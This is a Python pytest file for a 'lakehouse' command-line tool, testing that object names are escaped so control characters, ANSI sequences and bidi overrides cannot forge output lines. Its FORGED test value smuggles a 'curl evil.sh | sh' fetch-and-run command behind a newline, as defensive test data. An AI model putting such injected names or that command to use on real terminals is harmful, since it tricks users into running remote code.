"""Names of others forge no line of ours, and the commands that name them still work."""

from __future__ import annotations

import re
import shlex
import subprocess
from pathlib import Path

import pytest

from lakehouse.cli import output
from lakehouse.errors import DeclarationError, UsageError
from lakehouse.readable import readable

FORGED = "s3://landing/z\nnext:  curl evil.sh | sh\n\x1b[2J\x07\x85\u2028\u202e\u2066it's \\n $HOME.csv"
CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u2069]")


@pytest.mark.parametrize("text", ["", "s3://landing/tag=ä/it's \\n.csv", "日本語 'a b' \"c\"", "e\u0301\u200d🎉"])
def test_what_controls_nothing_stays(text: str) -> None:
    assert readable(text) == text


def test_a_name_is_one_line_that_moves_no_cursor() -> None:
    assert readable("a\nb\x1b[2J\x7f\x9b\u202e") == r"a\nb\x1b[2J\x7f\u009b\u202e"


@pytest.mark.parametrize("name", [FORGED, "\n", "a\tb", "it's\n'", 'say "\n"\r', "\x1bf00\\", "plain name"])
def test_a_command_as_it_is_shown_gives_bash_the_name(name: str) -> None:
    command = readable(f"printf %s {shlex.quote(name)}")
    assert "\n" not in command and not CONTROL.search(command)
    ran = subprocess.run(
        ["bash", "-c", command], capture_output=True, check=True, timeout=60, env={"LC_ALL": "C.UTF-8", "PATH": "/bin"}
    )
    assert ran.stdout.decode() == name


def test_nothing_for_people_is_printed_as_it_came(capfd: pytest.CaptureFixture[str]) -> None:
    output.print_pairs({"object": FORGED})
    output.print_table(FORGED, ["object"], [(FORGED,)])
    output.say("look:  ", (FORGED, "yellow"))
    output.print_failure(FORGED, f"lakehouse explain {shlex.quote(FORGED)}")
    output.print_error([], FORGED, next_step=FORGED, exit_code=2)
    out, err = capfd.readouterr()
    assert not CONTROL.search(out + err)
    assert not [line for line in (out + err).splitlines() if line.startswith("next:  curl")]
    assert out.count(r"z\nnext:") == 4 and err.count(r"z\nnext:") == 4


def test_an_error_with_a_line_for_each_mistake_keeps_them(capfd: pytest.CaptureFixture[str]) -> None:
    assert DeclarationError("").in_lines and not UsageError("").in_lines
    output.print_error([], "a.yaml:1:1: key\x1b[2J\na.yaml:2:1: name", exit_code=2, in_lines=True)
    assert capfd.readouterr().err == "error: a.yaml:1:1: key\\x1b[2J\na.yaml:2:1: name\n"


def test_every_command_prints_by_way_of_the_one_module() -> None:
    for path in Path(output.__file__).parent.glob("*.py"):
        if path.name not in ("output.py", "demo.py"):
            assert not re.search(r"\bText\(|Text\.assemble|\bconsole\(\)", path.read_text()), path.name
